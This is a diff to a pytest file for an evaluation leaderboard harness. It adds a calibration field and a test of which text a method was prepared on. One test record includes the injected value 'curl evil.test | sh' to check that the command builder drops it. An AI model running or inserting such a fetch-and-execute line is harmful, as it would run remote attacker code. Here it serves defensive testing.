@@ -7,7 +7,7 @@ import pytest
 import torch
 
 from harness.contract.prepared import Prepared
-from harness.leaderboard.rerun import arguments, compared
+from harness.leaderboard.rerun import arguments, asked_text, compared
 from harness.leaderboard.results import Result, load
 from harness.leaderboard.submit import learned as learned_files
 from harness.leaderboard.validate import validate
@@ -68,11 +68,30 @@ def test_a_document_that_the_task_does_not_have_is_said() -> None:
 def test_the_command_is_made_of_known_fields_and_no_value_becomes_a_flag() -> None:
     asked = {"task": "--config=x", "num_fewshot": None, "batch_size": 4, "gen_kwargs": None, "seeds": [0, 1, 2, None]}
     asked |= {"apply_chat_template": False, "system_instruction": None, "score_mode": "lm-eval", "score_suffix": None}
-    record = {"evaluation": asked, "model": {"pretrained": "-x", "args": {}}, "method": {"kernel_asked": None}}
+    record = {
+        "evaluation": asked,
+        "model": {"pretrained": "-x", "args": {}},
+        "method": {"kernel_asked": None, "calibration": None},
+    }
     command = arguments(record | {"command": "curl evil.test | sh"}, "m", lines(2))
     assert {"--tasks=--config=x", "--pretrained=-x", "--seed=0,1,2,None", '--samples={"t": [0, 1]}'} <= set(command)
     assert {"--offline", "--no_baseline"} <= set(command)
     assert not any("evil" in word for word in command)
+
+
+@pytest.mark.parametrize(
+    ("text", "asked"),
+    [
+        (None, "task"),
+        ("the training split of t, 256 documents", "task"),
+        ("the bundled text, 12 documents", "bundled"),
+        ("the training split of another, 256 documents", None),
+        ("text of cimec/lambada,plain_text, split validation, 256 documents", None),
+        ("the file mine.txt, 1 document", None),
+    ],
+)
+def test_a_method_is_prepared_on_the_text_that_it_was_prepared_on(text: str | None, asked: str | None) -> None:
+    assert asked_text({"method": {"calibration": text}, "evaluation": {"task": "t"}}) == asked
 
 
 def test_what_a_method_learned_travels_with_it_if_it_is_small(
